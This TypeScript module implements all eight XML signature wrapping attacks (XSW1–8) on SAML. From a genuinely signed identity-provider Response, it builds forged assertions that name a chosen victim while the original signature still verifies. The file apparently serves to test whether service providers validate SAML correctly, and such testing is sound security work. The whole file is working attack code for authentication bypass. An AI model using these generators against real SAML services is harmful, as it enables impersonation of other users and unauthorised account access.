// The eight classic XML signature wrapping attacks on SAML (Somorovsky et al., "On Breaking SAML", 2012; the
// XSW1–8 of SAML Raider), built from a Response the IdP really signed: the signed element is kept (so its signature
// still verifies) and a forged one, naming someone else, is placed where a careless SP would read it.
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';
import { newSamlId } from './saml-idp.ts';

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const first = (root: Document | Element, ns: string, name: string) =>
  root.getElementsByTagNameNS(ns, name)[0] as Element;
const directSignature = (el: Element) =>
  Array.from(el.childNodes).find((n) => n.nodeType === 1 && (n as Element).localName === 'Signature') as
    | Element
    | undefined;

/** The forged copy of an element: new ID, its own signature removed, every NameID naming `victim`. */
function forge(el: Element, victim: string): Element {
  const copy = el.cloneNode(true) as Element;
  copy.setAttribute('ID', newSamlId());
  const sig = directSignature(copy);
  if (sig) copy.removeChild(sig);
  for (const nameId of Array.from(copy.getElementsByTagNameNS(SAML, 'NameID'))) nameId.textContent = victim;
  return copy;
}

const text = (doc: Document) => new XMLSerializer().serializeToString(doc);

/** XSW1–2 wrap a signed Response; XSW3–8 a signed Assertion. Each returns the attack document as XML text. */
export const XSW: Record<string, (signedXml: string, victim: string) => string> = {
  // The forged Response is the root; the signed original hides inside the signature.
  XSW1(xml, victim) {
    const doc = parse(xml);
    const original = doc.documentElement!;
    const evil = forge(original, victim);
    const signature = directSignature(original)!.cloneNode(true) as Element;
    signature.appendChild(original.cloneNode(true));
    evil.insertBefore(signature, evil.childNodes.item(1));
    doc.replaceChild(evil, original);
    return text(doc);
  },
  // As XSW1, but the signed original sits beside the signature (detached).
  XSW2(xml, victim) {
    const doc = parse(xml);
    const original = doc.documentElement!;
    const evil = forge(original, victim);
    const signature = directSignature(original)!.cloneNode(true) as Element;
    evil.insertBefore(signature, evil.childNodes.item(1));
    evil.insertBefore(original.cloneNode(true), signature);
    doc.replaceChild(evil, original);
    return text(doc);
  },
  // A forged Assertion before the signed one.
  XSW3(xml, victim) {
    const doc = parse(xml);
    const assertion = first(doc, SAML, 'Assertion');
    assertion.parentNode!.insertBefore(forge(assertion, victim), assertion);
    return text(doc);
  },
  // A forged Assertion in place of the signed one, which becomes its child.
  XSW4(xml, victim) {
    const doc = parse(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const evil = forge(assertion, victim);
    assertion.parentNode!.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return text(doc);
  },
  // The signed Assertion's content changed (its signature kept), an untouched copy appended at the end.
  XSW5(xml, victim) {
    const doc = parse(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const copy = assertion.cloneNode(true) as Element;
    copy.removeChild(directSignature(copy)!);
    first(assertion, SAML, 'NameID').textContent = victim;
    doc.documentElement!.appendChild(copy);
    return text(doc);
  },
  // As XSW5, with the untouched copy inside the signature of the changed one.
  XSW6(xml, victim) {
    const doc = parse(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const copy = assertion.cloneNode(true) as Element;
    copy.removeChild(directSignature(copy)!);
    first(assertion, SAML, 'NameID').textContent = victim;
    directSignature(assertion)!.appendChild(copy);
    return text(doc);
  },
  // The signed Assertion moved into an Extensions element; a forged one in its place.
  XSW7(xml, victim) {
    const doc = parse(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const evil = forge(assertion, victim);
    const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
    assertion.parentNode!.replaceChild(evil, assertion);
    evil.parentNode!.insertBefore(extensions, evil);
    extensions.appendChild(assertion);
    return text(doc);
  },
  // A forged Assertion carrying the signature, the signed original inside the signature's ds:Object.
  XSW8(xml, victim) {
    const doc = parse(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const signature = directSignature(assertion)!;
    const original = assertion.cloneNode(true) as Element;
    original.removeChild(directSignature(original)!);
    for (const nameId of Array.from(assertion.getElementsByTagNameNS(SAML, 'NameID'))) nameId.textContent = victim;
    const object = doc.createElementNS(DS, 'ds:Object');
    object.appendChild(original);
    signature.appendChild(object);
    return text(doc);
  },
};
